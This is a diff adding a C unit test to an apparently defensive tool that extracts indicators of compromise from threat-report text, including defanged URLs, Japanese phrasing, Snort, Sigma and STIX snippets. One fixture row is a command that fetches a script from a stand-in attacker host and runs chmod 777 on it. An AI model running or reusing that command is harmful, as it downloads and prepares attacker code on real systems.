@@ -198,6 +198,29 @@ static void places_point_into_the_text_as_given(void **state)
 	assert_true(list.items[0].defanged);
 }
 
+static void other_layouts_of_reports_are_read(void **state)
+{
+	static const struct row rows[] = {
+		{ "sha256:ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
+			"sha256 ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb" },
+		{ "攻撃元45.77.1.2からの通信", "ipv4 45.77.1.2" },
+		{ "h[xx]p://bad-site[.]ru/x", "url http://bad-site.ru/x" },
+		{ "wget http://evil-a.com/x.sh;chmod 777 x.sh", "url http://evil-a.com/x.sh, file_name x.sh" },
+		{ "\\\\45.77.1.2\\share\\a.exe", "file_path \\\\45.77.1.2\\share\\a.exe, ipv4 45.77.1.2" },
+		{ "\\\\evil-a.com\\share\\a.exe", "file_path \\\\evil-a.com\\share\\a.exe, domain evil-a.com" },
+		{ "http://a1.com/x;jsessionid=1", "url http://a1.com/x;jsessionid=1" },
+		{ "alert tcp any any -> 45.77.1.2 4444 (msg:\"x\"; sid:1;)", "ipv4 45.77.1.2" },
+		{ "DestinationHostname|endswith: '.evil-a.com'", "domain evil-a.com" },
+		{ "[file:hashes.'SHA-256' = 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb']",
+			"sha256 ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb" },
+		{ "evil-a[.]com（45.77.1[.]2）→45.77.1[.]3", "domain evil-a.com, ipv4 45.77.1.2, ipv4 45.77.1.3" },
+		{ "接続先：evil-a[.]com、ポート：443", "domain evil-a.com" },
+		{ "{0CC175B9-C0F1-B6A8-31C3-99E269772661}", "" }, { "1.2.3.4.5", "" }, { "org.apache.hadoop.ipc.Server", "" },
+	};
+
+	CHECK(*state, rows, IND_KIND_TEXT);
+}
+
 static uint32_t next_random(uint32_t *s)
 {
 	*s = *s * 1664525u + 1013904223u;
@@ -253,7 +276,7 @@ int main(void)
 		WORK_TEST(every_defanging_is_taken_back), WORK_TEST(addresses_have_ports_blocks_and_roles), WORK_TEST(names_end_where_sentences_begin),
 		WORK_TEST(urls_end_at_their_own_end), WORK_TEST(hashes_and_wallets_are_told_apart), WORK_TEST(identifiers_paths_and_names),
 		WORK_TEST(what_only_looks_alike_is_left), WORK_TEST(one_level_of_encoding_is_opened), WORK_TEST(places_point_into_the_text_as_given),
-		WORK_TEST(short_ways_judge_like_the_long_one),
+		WORK_TEST(short_ways_judge_like_the_long_one), WORK_TEST(other_layouts_of_reports_are_read),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
